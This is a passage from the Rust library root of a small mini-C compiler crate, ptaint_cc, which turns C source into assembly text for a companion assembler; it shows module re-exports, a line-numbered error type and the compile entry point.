//! * Return value in `$v0`; `$v0`, `$t0`, `$t1`, `$t9`, `$at` are clobbered.
//!
//! The output is textual assembly for [`ptaint_asm::assemble`].
//!
//! ```
//! let asm = ptaint_cc::compile(r#"
//!     int add(int a, int b) { return a + b; }
//!     int main() { return add(2, 3); }
//! "#)?;
//! let image = ptaint_asm::assemble(&asm)?;
//! assert!(image.symbol("add").is_some());
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

mod ast;
mod codegen;
mod lexer;
mod opt;
mod parser;

pub use ast::{BinOp, Expr, ExprKind, GlobalInit, Item, Program, Stmt, Type, UnOp};
pub use codegen::compile_program;
pub use lexer::{lex, Token, TokenKind};
pub use opt::{compile_optimized, optimize_asm};
pub use parser::parse;

/// A compilation error with its 1-based source line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CcError {
    /// 1-based line number.
    pub line: u32,
    /// Description.
    pub msg: String,
}

impl CcError {
    pub(crate) fn new(line: u32, msg: impl Into<String>) -> CcError {
        CcError {
            line,
            msg: msg.into(),
        }
    }
}

impl std::fmt::Display for CcError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "line {}: {}", self.line, self.msg)
    }
}

impl std::error::Error for CcError {}

/// Compiles mini-C source to ptaint assembly text.
///
/// # Errors
///
/// Returns a [`CcError`] naming the offending line for lexical, syntactic,
/// and semantic (type/name) errors.
pub fn compile(source: &str) -> Result<String, CcError> {
    let tokens = lex(source)?;
    let program = parse(&tokens)?;
    compile_program(&program)
}
